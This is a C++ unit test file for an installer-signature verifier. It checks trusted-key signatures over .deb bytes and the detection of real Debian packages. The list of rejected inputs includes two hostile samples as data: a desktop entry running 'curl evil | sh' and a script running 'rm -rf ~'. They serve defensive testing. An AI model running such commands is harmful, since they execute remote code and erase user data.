#include "net/installer_signature.h"
#include "signed_installer.h"

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <gtest/gtest.h>
#include <string>
#include <vector>

namespace velquist {
namespace {

namespace fs = std::filesystem;
using testing::ArMemberHeader;
using testing::DebianPackage;
using testing::TestSigner;

class InstallerSignatureTest : public ::testing::Test {
  protected:
    std::string Write(const std::string& bytes) {
        fs::path path =
            fs::path(std::getenv("XDG_DATA_HOME")) / ("sig-" + std::to_string(files_++) + ".deb");
        fs::create_directories(path.parent_path());
        std::ofstream(path, std::ios::binary) << bytes;
        return path.string();
    }

    TestSigner maker_;
    TestSigner stranger_;
    int files_ = 0;
};

TEST_F(InstallerSignatureTest, OnlyTheMakersSignatureOfTheseBytesVerifies) {
    const std::string package = DebianPackage(300 * 1024 + 3); // several read blocks
    const std::string path = Write(package);
    const std::vector<std::string> keys = {maker_.PublicKeyBase64()};
    EXPECT_TRUE(VerifyInstallerSignature(path, maker_.SignRaw(package), keys));

    EXPECT_FALSE(VerifyInstallerSignature(path, stranger_.SignRaw(package), keys));
    std::string tampered = package;
    tampered.back() ^= 1;
    EXPECT_FALSE(VerifyInstallerSignature(path, maker_.SignRaw(tampered), keys));
    std::string flipped = maker_.SignRaw(package);
    flipped[10] ^= 0x20;
    EXPECT_FALSE(VerifyInstallerSignature(path, flipped, keys));
    EXPECT_FALSE(VerifyInstallerSignature(path, maker_.SignRaw(package).substr(1), keys));
    EXPECT_FALSE(VerifyInstallerSignature(path, maker_.SignRaw(package), {}));
    EXPECT_FALSE(VerifyInstallerSignature(path + ".missing", maker_.SignRaw(package), keys));
}

TEST_F(InstallerSignatureTest, AnyBuiltInKeyMayHaveSignedAndBrokenKeysAreSkipped) {
    const std::string package = DebianPackage(1000);
    const std::string path = Write(package);
    const std::vector<std::string> keys = {"not base64!", stranger_.PublicKeyBase64().substr(4),
                                           stranger_.PublicKeyBase64(), maker_.PublicKeyBase64()};
    EXPECT_TRUE(VerifyInstallerSignature(path, maker_.SignRaw(package), keys));
    EXPECT_TRUE(VerifyInstallerSignature(path, stranger_.SignRaw(package), keys));
}

TEST_F(InstallerSignatureTest, DebianPackageIsAnArchiveOpeningWithDebianBinary) {
    const std::string magic = "!<arch>\n";
    EXPECT_TRUE(IsDebianPackage(Write(DebianPackage(200))));
    EXPECT_TRUE(IsDebianPackage(Write(magic + ArMemberHeader("debian-binary/", 4) + "2.0\n")))
        << "GNU ar ends names with a slash";
    const std::vector<std::string> others = {
        magic + ArMemberHeader("control.tar.xz", 4) + "abcd",
        magic + ArMemberHeader("debian-binaryx", 4) + "2.0\n",
        "!<arcx>\n" + ArMemberHeader("debian-binary", 4) + "2.0\n",
        magic + ArMemberHeader("debian-binary", 4).substr(0, 58) + "xx2.0\n",
        magic + ArMemberHeader("debian-binary", 4).substr(0, 30),
        "[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n",
        "#!/bin/sh\nrm -rf ~\n",
        "",
    };
    for (const std::string& bytes : others) {
        EXPECT_FALSE(IsDebianPackage(Write(bytes))) << bytes;
    }
}

} // namespace
} // namespace velquist
